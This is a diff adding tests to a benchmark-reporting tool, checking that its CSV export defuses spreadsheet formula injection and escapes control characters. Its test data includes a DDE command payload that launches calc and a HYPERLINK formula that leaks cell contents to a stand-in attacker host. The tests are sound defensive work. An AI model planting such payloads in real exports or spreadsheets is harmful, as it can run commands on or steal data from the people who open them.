@@ -5,11 +5,14 @@ Each test builds the hostile input in tmp_path with the format builders of tests
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
 import sys
 import time
+import unicodedata
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
@@ -21,11 +24,13 @@ from bench_tui import cli
 from bench_tui.analysis.regressions import run_series
 from bench_tui.model import Execution, Run
 from bench_tui.model.dates import date_order
+from bench_tui.report import render_export
 from bench_tui.sources.discover import discover_workspace
 from bench_tui.tui.app import BenchApp
 from bench_tui.tui.screens.benchmarks import newest_first
 from bench_tui.tui.widgets.virtual_table import VirtualTable
 from tests.fixtures.compare_builders import openadapt_run
+from tests.fixtures.openadapt_builders import write_json
 from tests.fixtures.osworld_builders import osworld_line, write_jsonl, write_text
 from tests.fixtures.pilot import plain
 from tests.fixtures.web_builders import write_summary
@@ -255,3 +260,84 @@ def test_export_json_file_escapes_c1_controls(c1_workspace: Path, tmp_path: Path
     assert [code for code in _raw_encodings() if code in raw] == []
     rows = json.loads(raw)
     assert {row["error"] for row in rows} >= {f"boom{UNSAFE_IN_JSON}", "half a pair: \ud800"}
+
+
+# ----- 11: CSV injection --------------------------------------------------------------------------
+
+HOSTILE_CELLS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rleading carriage return",
+    "bare\rcarriage return",
+    "line\nbreak",
+    'a "quoted" word',
+    "comma, inside",
+    "nul\x00byte",
+    "escape\x1b[2Jsequence",
+    "c1\x9bcsi and del\x7f",
+    "plain text",
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile_csv_workspace(root: Path) -> Path:
+    outcomes = {f"t{index:02d}": "fail" for index in range(len(HOSTILE_CELLS))}
+    errors = {f"t{index:02d}": text for index, text in enumerate(HOSTILE_CELLS)}
+    run = openadapt_run(root, "run", outcomes, errors=errors)
+    for index, text in enumerate(HOSTILE_CELLS):
+        task = {"task_id": f"{text} #{index}", "domain": text, "instruction": "x"}
+        write_json(run / "tasks" / f"t{index:02d}" / "task.json", task)
+    return root
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _check_csv(text: str, data_rows: int) -> list[list[str]]:
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == data_rows + 1
+    cells = [cell for row in rows for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)] == []
+    controls = [c for c in "".join(cells) if c not in "\t\r\n" and unicodedata.category(c) == "Cc"]
+    assert controls == []
+    return rows
+
+
+def test_export_csv_defuses_formulas_and_keeps_one_row_per_task(tmp_path: Path) -> None:
+    root = _hostile_csv_workspace(tmp_path)
+    result = CliRunner().invoke(cli.app, ["export", str(root), "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = _check_csv(result.stdout_bytes.decode(), len(HOSTILE_CELLS))
+    header = rows[0]
+    by_task = {row[header.index("task_id")]: row for row in rows[1:]}
+    assert by_task["'=cmd|' /C calc'!A0 #0"][header.index("domain")] == "'=cmd|' /C calc'!A0"
+    errors = {row[header.index("error")] for row in rows[1:]}
+    assert {"'\rleading carriage return", "bare\rcarriage return", "line\nbreak"} <= errors
+    assert {"'\tleading tab", 'a "quoted" word', "comma, inside", "plain text"} <= errors
+    assert {"nul\\x00byte", "escape\\x1b[2Jsequence", "c1\\x9bcsi and del\\x7f"} <= errors
+
+
+def test_csv_keeps_numbers_the_tool_formatted() -> None:
+    rows = [
+        {"run": "-r", "task_id": "@t", "score": -2.5, "steps": -3, "success": False, "labels": []},
+        {"run": "r", "task_id": "t", "score": 0.5, "labels": ["=bad", "ok"], "note": "\ud800"},
+    ]
+    parsed = _check_csv(render_export(rows, "csv"), 2)
+    header = parsed[0]
+    first, second = (dict(zip(header, row, strict=True)) for row in parsed[1:])
+    assert (first["run"], first["task_id"], first["score"], first["steps"]) == (
+        "'-r",
+        "'@t",
+        "-2.5",
+        "-3",
+    )
+    assert (second["labels"], second["note"]) == ("'=bad;ok", "\\ud800")
